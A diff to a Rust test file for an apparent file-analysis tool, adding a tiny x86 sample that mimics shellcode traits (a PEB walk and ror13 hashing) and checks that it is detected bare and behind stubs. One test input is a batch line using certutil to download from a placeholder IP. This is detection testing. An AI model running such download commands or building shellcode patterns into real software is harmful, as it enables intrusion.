@@ -1,7 +1,7 @@
 //! Files hidden by an encoding, and code without a file.
 
 use super::build::{self, noise};
-use super::{look, packet};
+use super::{blob, look, packet};
 use crate::report::{Budget, FoundBy, Kind, State};
 
 /// A way to hide a file's bytes, four at a time.
@@ -121,11 +121,42 @@ fn the_single_packet_has_a_stub_code_and_filling() {
     }
 }
 
+/// Code that reads where its process's block is, mixes a number, and returns.
+const CODE: [u8; 25] = [
+    0x64, 0xa1, 0x30, 0, 0, 0, 0x31, 0xff, 0xb9, 4, 0, 0, 0, 0xc1, 0xcf, 13, 0x01, 0xc7, 0x49, 0x75, 0xf8,
+    0x47, 0xc3, 0xcc, 0xcc,
+];
+
+#[test]
+fn code_is_found_as_an_upload_and_behind_a_stub() {
+    for front in [0, 40] {
+        let sample = [&vec![0x90; front][..], &CODE].concat();
+        let report = look(&sample, &Budget::default());
+        let [root] = report.layers.as_slice() else { panic!("{report:?}") };
+        let code = root.facts.code.as_ref().unwrap();
+        assert_eq!((root.kind, report.core, code.entry), (Kind::Shellcode, Some(0), front as u64));
+        assert_eq!(
+            (code.machine.as_str(), code.traits.join(" ")),
+            ("x86", "peb walk ror13 hashes".to_owned())
+        );
+    }
+    for layout in crate::stub::ALL {
+        let report = look(&blob(layout, &CODE, CODE.len(), 0), &Budget::default());
+        let layers: Vec<_> = report.layers.iter().map(|layer| (layer.kind, layer.found_by)).collect();
+        let by_field = FoundBy::StubSizeField;
+        assert_eq!(layers[1..], [(Kind::Stub, by_field), (Kind::Shellcode, by_field)]);
+        assert_eq!(report.core, Some(2), "what the stub carries");
+    }
+}
+
 #[test]
 fn what_is_no_file_is_text_or_data() {
     let kind = |sample: &[u8]| look(sample, &Budget::default()).layers[0].kind;
     assert_eq!(kind(b"@echo off\r\ncertutil -urlcache http://192.0.2.1/a"), Kind::Text);
     assert_eq!(kind(b"\xff\xfeh\0e\0l\0l\0o\0"), Kind::Text);
     assert_eq!(kind(&noise(300, 1)), Kind::Data);
+    assert_eq!(kind(&b"A".repeat(300)), Kind::Text);
+    // What begins as text may end as something else.
+    assert_eq!(kind(&[&b"text ".repeat(2000)[..], &noise(9000, 4)].concat()), Kind::Data);
     assert_eq!(kind(&[]), Kind::Data);
 }
